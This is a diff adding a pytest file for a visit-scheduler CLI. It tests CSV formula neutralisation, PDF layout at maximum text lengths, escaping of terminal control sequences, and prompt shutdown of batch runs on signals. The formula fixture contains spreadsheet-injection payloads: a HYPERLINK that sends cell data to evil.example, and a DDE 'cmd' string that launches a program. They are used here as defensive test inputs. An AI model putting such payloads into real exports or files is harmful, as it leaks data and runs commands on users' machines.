@@ -1,0 +1,137 @@
+"""Issue 13's contract beyond the corpus: spreadsheet-safe CSV, the longest texts lay out,
+nothing printed raw, and a batch stops on Ctrl-C or SIGTERM within a second."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from pypdf import PdfReader
+
+from scheduler.cli import cli
+from scheduler.text import printable
+
+DATA = Path(__file__).parent / "data"
+ROOT = Path(__file__).resolve().parent.parent
+
+FORMULA_TEMPLATE = """id: formula
+name: =HYPERLINK("http://evil.example/?"&A1,"click")
+source: +SUM(1,1)
+components:
+  - kind: visit
+    id: v
+    name: "@SUM(A1:A9)"
+    code: V
+    dose: "-2+3+cmd|' /C calc'!A0"
+    location: "\\tTab first"
+    at: {day: 8}
+"""
+
+
+def test_show_csv_neutralises_formulas(tmp_path):
+    path = tmp_path / "formula.yaml"
+    path.write_text(FORMULA_TEMPLATE)
+    result = CliRunner().invoke(cli, ["show", str(path), "--start", "2026-03-02", "--holidays",
+                                      "none", "--tz", "UTC", "--csv",
+                                      "--closed", "2026-03-09==1+1"])
+    assert result.exit_code == 0, result.output
+    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["component_name"] == "'@SUM(A1:A9)"
+    assert row["dose"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["location"] == "'\tTab first"
+    assert row["reason"] == "'=1+1"
+    assert row["date"] == "2026-03-10" and row["plan_day"] == "9"
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize(("paper", "lang"), [("a4", "en"), ("letter", "zh"), ("a4", "en+zh")])
+def test_every_text_at_its_maximum_lays_out(tmp_path, paper, lang):
+    out = tmp_path / "out"
+    result = CliRunner().invoke(cli, [
+        "generate", str(DATA / "templates" / "longest_texts.yaml"), "--start", "2026-01-05",
+        "--holidays", "none", "--tz", "UTC", "--patient", "W" * 80, "--paper", paper,
+        "--lang", lang, "--closed", "2026-01-06=" + "W" * 200, "--discreet", "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    [pdf] = out.glob("*.pdf")
+    assert len(PdfReader(pdf).pages) >= 1
+
+
+def test_printable_escapes_what_a_terminal_would_run():
+    assert printable("P\x1b[31m017\x07") == "P\\x1b[31m017\\x07"
+    assert printable("a\u2028b\x9bc") == "a\\u2028b\\x9bc"
+    assert printable("bad \udcff byte") == "bad \\xff byte"
+    assert printable("tab\tkept\nline") == "tab\tkept\nline"
+    assert printable("x" * 5000, limit=10) == "x" * 10 + "…"
+
+
+# --- signals ----------------------------------------------------------------------------------
+
+
+def _children(pid: int) -> set[int]:
+    found = set()
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                stat = Path(f"/proc/{entry}/stat").read_text()
+            except OSError:
+                continue
+            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
+                found.add(int(entry))
+    return found
+
+
+def _alive(pid: int) -> bool:
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return False
+    return state != "Z"
+
+
+@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
+@pytest.mark.parametrize(("how", "jobs"), [("sigint-to-group", 2), ("sigterm-to-main", 2),
+                                           ("sigterm-to-main", 1)])
+def test_batch_stops_within_a_second(tmp_path, how, jobs):
+    rows = "".join(f"P{i:04d},stupp,2026-03-02,none,UTC\n" for i in range(3000))
+    cohort = tmp_path / "cohort.csv"
+    cohort.write_text("key,template,start,holidays,tz\n" + rows)
+    out = tmp_path / "out"
+    process = subprocess.Popen(
+        [sys.executable, "-m", "scheduler", "batch", str(cohort), "-o", str(out), "--jobs", str(jobs),
+         "--now", "2026-01-01T00:00:00Z"],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline and len(list(out.glob("*.pdf"))) < 4:
+        time.sleep(0.05)
+    workers = _children(process.pid)
+    assert bool(workers) == (jobs > 1), "with --jobs 2 the batch runs on worker processes"
+    sent = time.monotonic()
+    if how == "sigint-to-group":  # what Ctrl-C in a terminal does
+        os.killpg(process.pid, signal.SIGINT)
+    else:
+        process.send_signal(signal.SIGTERM)
+    stdout, stderr = process.communicate(timeout=30)
+    took = time.monotonic() - sent
+    assert took < 1.0, f"took {took:.2f} s to stop"
+    assert process.returncode == 2, stderr
+    assert "Traceback" not in stderr
+    assert "Error: stopped by" in stderr and "of 3000 rows" in stderr, stderr
+    assert "rows: " in stdout
+    time.sleep(0.2)
+    assert not [pid for pid in workers if _alive(pid)], "workers outlived the batch"
+    names = sorted(p.name for p in out.iterdir())
+    assert not [n for n in names if n.startswith(".")], names  # no temporary files
+    stems = {n.rsplit(".", 1)[0] for n in names}
+    for stem in stems:  # every row's files are complete: both, and readable
+        assert (out / f"{stem}.ics").read_bytes().rstrip().endswith(b"END:VCALENDAR")
+        assert (out / f"{stem}.pdf").read_bytes().rstrip().endswith(b"%%EOF")
+    assert len(stems) < 3000
